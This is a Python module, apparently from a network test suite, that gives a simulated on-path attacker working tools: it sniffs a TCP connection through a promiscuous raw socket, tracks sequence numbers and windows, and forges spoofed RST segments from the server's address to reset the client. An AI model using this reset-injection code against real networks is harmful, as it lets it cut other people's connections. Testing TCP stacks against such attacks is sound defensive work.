# SPDX-License-Identifier: GPL-2.0-or-later
"""The attacker's tools: follow a TCP connection on the shared link and
forge a segment with another host's source address.

The attacker namespace's veth-a is a port of a bridge that floods every
frame (capture.sh, topology "lan"), and it is in promiscuous mode, so an
AF_PACKET socket bound to it reads the client's and the server's frames.
:class:`Watch` keeps, from those frames alone, what an on-path attacker
knows of one connection: each side's MAC address, the next sequence number
it will send (SND.NXT, as seen on the wire), the last acknowledgment and
window it advertised, and its window scale.  :meth:`Watch.send_rst` writes
a RST from the server's address to the client, built byte by byte (IPv4
and TCP checksums computed here), through the same socket.

IPv4 only: the scenarios that use it have no -v6 twin.
"""

import ipaddress
import select
import socket
import struct
import time

ETH_P_ALL = 0x0003
ETH_P_IP = 0x0800
PACKET_OUTGOING = 4
TCP_FIN, TCP_SYN, TCP_RST, TCP_ACK = 0x01, 0x02, 0x04, 0x10
TCPOPT_EOL, TCPOPT_NOP, TCPOPT_WSCALE = 0, 1, 3


def checksum(data):
    """The Internet checksum (RFC 1071) of `data`."""
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def tcp_segment(src, dst, sport, dport, seq, ack, flags, window=0):
    """A 20-byte TCP header without options or payload, with its checksum
    over the IPv4 pseudo-header (RFC 9293 section 3.1)."""
    header = struct.pack("!HHIIBBHHH", sport, dport, seq & 0xFFFFFFFF, ack & 0xFFFFFFFF,
                         5 << 4, flags, window, 0, 0)
    pseudo = socket.inet_aton(src) + socket.inet_aton(dst) + struct.pack("!BBH", 0, 6, len(header))
    return header[:16] + struct.pack("!H", checksum(pseudo + header)) + header[18:]


def ipv4_packet(src, dst, payload, ident=0, ttl=64):
    """An IPv4 header (DF set, no options) with its checksum, then `payload`."""
    header = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(payload), ident, 0x4000, ttl, 6, 0,
                         socket.inet_aton(src), socket.inet_aton(dst))
    return header[:10] + struct.pack("!H", checksum(header)) + header[12:] + payload


def ethernet_frame(dst_mac, src_mac, payload):
    """An Ethernet II frame carrying IPv4 `payload`."""
    return dst_mac + src_mac + struct.pack("!H", ETH_P_IP) + payload


def _wscale(options):
    """The shift of a window scale option among TCP `options`, or None."""
    i = 0
    while i < len(options):
        kind = options[i]
        if kind == TCPOPT_EOL:
            break
        if kind == TCPOPT_NOP:
            i += 1
            continue
        if i + 1 >= len(options) or options[i + 1] < 2:
            break
        if kind == TCPOPT_WSCALE and options[i + 1] == 3 and i + 2 < len(options):
            return min(options[i + 2], 14)
        i += options[i + 1]
    return None


class Side:
    """One end of the watched connection, as its frames show it."""

    def __init__(self):
        self.mac = None
        self.ip = None
        self.port = None
        self.nxt = None          # SND.NXT as seen: the end of its highest segment
        self.ack = None          # its last acknowledgment (the RCV.NXT it announced)
        self.window = None       # its last advertised window, unscaled
        self.wscale = None       # the shift its SYN offered, None if none
        self.segments = 0

    def __repr__(self):
        return (f"Side(ip={self.ip} port={self.port} nxt={self.nxt} ack={self.ack} "
                f"window={self.window} wscale={self.wscale} segments={self.segments})")


class Watch:
    """Follow the TCP connection to `server_ip`:`server_port` on device
    `dev` (to be created inside the attacker's namespace)."""

    def __init__(self, dev, server_ip, server_port):
        self.sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL))
        self.sock.bind((dev, 0))
        self.sock.setblocking(False)
        self.own_mac = self.sock.getsockname()[4]
        self.server = Side()
        self.server.ip, self.server.port = server_ip, server_port
        self.client = Side()

    # -- reading the link

    def poll(self, seconds):
        """Read the link's frames for `seconds`."""
        deadline = time.monotonic() + seconds
        while True:
            left = deadline - time.monotonic()
            if left <= 0:
                return
            if select.select([self.sock], [], [], left)[0]:
                self._drain()

    def poll_until(self, event, timeout):
        """Read the link's frames until `event` is set (False on timeout)."""
        deadline = time.monotonic() + timeout
        while not event.is_set():
            if time.monotonic() > deadline:
                return False
            self.poll(0.02)
        return True

    def _drain(self):
        """Read every frame waiting on the socket."""
        while True:
            try:
                frame, address = self.sock.recvfrom(65535)
            except BlockingIOError:
                return
            if address[2] != PACKET_OUTGOING:     # not what we send ourselves
                self._frame(frame)

    def _frame(self, frame):
        """Update what is known of the connection from one IPv4/TCP frame."""
        if len(frame) < 14 + 20 or struct.unpack("!H", frame[12:14])[0] != ETH_P_IP:
            return
        ip = frame[14:]
        ihl = (ip[0] & 0x0F) * 4
        if ip[0] >> 4 != 4 or ip[9] != 6 or len(ip) < ihl + 20:
            return
        total = struct.unpack("!H", ip[2:4])[0]
        src, dst = str(ipaddress.ip_address(ip[12:16])), str(ipaddress.ip_address(ip[16:20]))
        tcp = ip[ihl:total]
        sport, dport, seq, ack, off_flags, window = struct.unpack("!HHIIHH", tcp[:16])
        offset, flags = (off_flags >> 12) * 4, off_flags & 0x3F
        if src == self.server.ip and sport == self.server.port:
            side, peer = self.server, self.client
            if peer.ip is None:
                peer.ip, peer.port = dst, dport
            elif (dst, dport) != (peer.ip, peer.port):
                return
        elif dst == self.server.ip and dport == self.server.port:
            side, peer = self.client, self.server
            if side.ip is None or (flags & TCP_SYN and not flags & TCP_ACK):
                side.ip, side.port = src, sport     # a (new) connection starts
            elif (src, sport) != (side.ip, side.port):
                return
        else:
            return
        side.mac = frame[6:12]
        side.segments += 1
        if flags & TCP_SYN:
            side.wscale = _wscale(tcp[20:offset])
        if flags & TCP_RST:
            return
        end = (seq + total - ihl - offset + bool(flags & TCP_SYN) + bool(flags & TCP_FIN)) & 0xFFFFFFFF
        if side.nxt is None or 0 < ((end - side.nxt) & 0xFFFFFFFF) < 1 << 31:
            side.nxt = end
        if flags & TCP_ACK:
            side.ack, side.window = ack, window

    # -- what it knows

    def client_window(self):
        """The client's receive window as it last advertised it: (RCV.NXT,
        RCV.WND in bytes), scaled only if both SYNs offered scaling."""
        client, server = self.client, self.server
        if client.ack is None:
            raise RuntimeError(f"no ACK from the client seen: {client!r}")
        shift = client.wscale if client.wscale is not None and server.wscale is not None else 0
        return client.ack, client.window << shift

    # -- sending

    def send_rst(self, seq, ack=None):
        """Send the client a RST (RST+ACK if `ack` is given) that claims to
        come from the server: its IP address and port, sequence number
        `seq`; from the attacker's own MAC address."""
        client, server = self.client, self.server
        if client.mac is None or client.port is None:
            raise RuntimeError("the client was never seen")
        flags = TCP_RST | (TCP_ACK if ack is not None else 0)
        tcp = tcp_segment(server.ip, client.ip, server.port, client.port, seq, ack or 0, flags)
        frame = ethernet_frame(client.mac, self.own_mac, ipv4_packet(server.ip, client.ip, tcp))
        self.sock.setblocking(True)
        try:
            self.sock.send(frame)
        finally:
            self.sock.setblocking(False)
        return frame

    def close(self):
        """Close the attacker's socket."""
        self.sock.close()
